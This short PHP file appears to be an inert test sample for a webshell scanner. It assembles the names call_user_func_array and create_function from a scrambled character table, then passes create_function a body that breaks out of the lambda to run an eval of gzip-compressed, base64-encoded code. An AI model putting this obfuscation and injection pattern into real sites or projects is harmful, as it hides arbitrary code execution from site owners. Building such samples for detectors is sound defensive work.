<?php
// webhunt test sample (inert): create_function handed a body that closes the lambda at once
function glue($a, $b, $c) { return $a . '' . $b . '' . $c; }
$tb = 'zyxwvutsrqponmlkjihgfedcba_$=";()46 ';
$p0 = glue($tb[23], $tb[25], $tb[14]);
$p1 = glue($tb[14], $tb[26], $tb[5]);
$p2 = glue($tb[7], $tb[21], $tb[8]);
$p3 = glue($tb[26], $tb[20], $tb[5]);
$p4 = glue($tb[12], $tb[23], $tb[26]);
$p5 = glue($tb[25], $tb[8], $tb[8]);
$p6 = glue($tb[25], $tb[1], '');
$q0 = glue($tb[23], $tb[8], $tb[21]);
$q1 = glue($tb[25], $tb[6], $tb[21]);
$q2 = glue($tb[26], $tb[20], $tb[5]);
$q3 = glue($tb[12], $tb[23], $tb[6]);
$q4 = glue($tb[17], $tb[11], $tb[12]);
$call = $p0.$p1.$p2.$p3.$p4.$p5.$p6;
$make = $q0.$q1.$q2.$q3.$q4;
$inner = 'eval(gzinflate(base64_decode("S03OyFdQysxLLSpRKEktLlEoTswtyElVsgYA")));';
$call($make, array('', '}' . $inner . '//'));
